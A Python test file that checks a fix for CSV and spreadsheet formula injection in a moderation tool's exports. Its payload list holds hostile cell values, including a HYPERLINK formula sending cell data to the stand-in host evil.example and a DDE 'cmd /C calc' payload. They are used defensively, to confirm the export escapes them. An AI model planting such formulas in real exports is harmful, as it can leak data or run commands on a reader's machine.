"""Finding 8: the CSV export wrote cells beginning with ``=``, ``+``, ``-``, ``@`` and tab
(13 cells in a test project, one in ``external_id``), and ``transparency.csv`` wrote taxonomy
names such as ``=HYPERLINK(…)`` unchanged. Every CSV cell ModOps writes now goes through
``modops.domain.cells.csv_cell`` (OWASP: prefix a single quote), reversibly, so the CSV
still imports back identically. Excel reports write text as text, never as formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import orjson
import pytest
from sqlalchemy import Engine, select

from modops.analytics.transparency import transparency_csv
from modops.domain.cells import FORMULA_PREFIXES, csv_cell, csv_uncell
from modops.io import export_project, import_file
from modops.store import session_scope, utcnow
from modops.store.models import Item
from tests.conftest import make_project

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"클릭")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=already quoted", "''-two quotes",
            "정상 댓글 =1", "-", "'"]


def test_the_escape_is_reversible_and_leaves_ordinary_text_alone() -> None:
    for text in [*PAYLOADS, "", "안녕", "a=b", "'plain quote"]:
        cell = csv_cell(text)
        assert cell[:1] not in FORMULA_PREFIXES
        assert csv_uncell(cell) == text
    assert csv_cell("안녕") == "안녕" and csv_cell("a=b") == "a=b"
    assert csv_cell("=1+1") == "'=1+1"


def _rows() -> list[dict]:
    rows = [{"external_id": f"x{i}", "product": "comment", "comment": p,
             "title": p, "metadata": {"note": p}} for i, p in enumerate(PAYLOADS)]
    rows.append({"external_id": "=ext()", "product": "comment", "comment": "@me"})
    return rows


def _items(engine: Engine, project: str) -> dict[str, tuple]:
    with session_scope(engine) as s:
        return {i.external_id: (i.comment, i.title, i.meta) for i in s.scalars(
            select(Item).where(Item.project_id == select_project(s, project)))}


def select_project(s, key: str) -> int:  # type: ignore[no-untyped-def]
    from modops.projects import get_project
    return get_project(s, key).id


def test_the_csv_export_never_writes_a_formula(engine: Engine, project: str,
                                               tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_bytes(b"".join(orjson.dumps(r) + b"\n" for r in _rows()))
    import_file(engine, project, src, after_insert=None)
    out = tmp_path / "out.csv"
    export_project(engine, project, "csv", out)
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8")))
             for c in row]
    risky = [c for c in cells if c[:1] in FORMULA_PREFIXES]
    assert risky == [], risky
    # ...and it imports back identically (the escape is undone on the way in).
    make_project(engine, "round-trip")
    import_file(engine, "round-trip", out, after_insert=None)
    assert _items(engine, "round-trip") == _items(engine, project)


def test_transparency_csv_never_writes_a_formula(engine: Engine, tmp_path: Path) -> None:
    from modops.projects import load_spec
    from tests.conftest import EXAMPLE_SPEC

    spec = load_spec(EXAMPLE_SPEC)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"보고서")'
    for label in spec["taxonomy"]["labels"]:
        if label["key"] == "hate":
            label["name_en"], label["name_ko"] = evil, "+" + evil
    make_project(engine, "evil-tax", taxonomy=spec["taxonomy"])
    src = tmp_path / "in.jsonl"
    src.write_bytes(orjson.dumps({"external_id": "h1", "product": "comment", "comment": "x",
                                  "final_labels": ["hate"]}) + b"\n")
    import_file(engine, "evil-tax", src, after_insert=None)
    from modops.analytics.period import Filters, Period

    now = utcnow()
    body = transparency_csv(engine, Period.day(now), Filters(project="evil-tax"),
                            now=now + timedelta(minutes=1))
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and any(r["policy_label"] == "hate" for r in rows)
    hate = next(r for r in rows if r["policy_label"] == "hate")
    assert hate["policy_name_en"] == "'" + evil and hate["policy_name_ko"] == "'+" + evil
    assert not [c for r in rows for c in r.values() if c and c[:1] in FORMULA_PREFIXES]


@pytest.mark.parametrize("store_name", ["sqlite"])  # no database involved
def test_excel_reports_write_text_as_text(tmp_path: Path, store_name: str) -> None:
    import xlsxwriter

    from modops.reports.excel import _cell

    path = tmp_path / "r.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet()
    fmt = wb.add_format()
    for r, p in enumerate(PAYLOADS):
        _cell(ws, r, 0, p, fmt)
    wb.close()
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="s"' in sheet  # shared strings, no formula cells
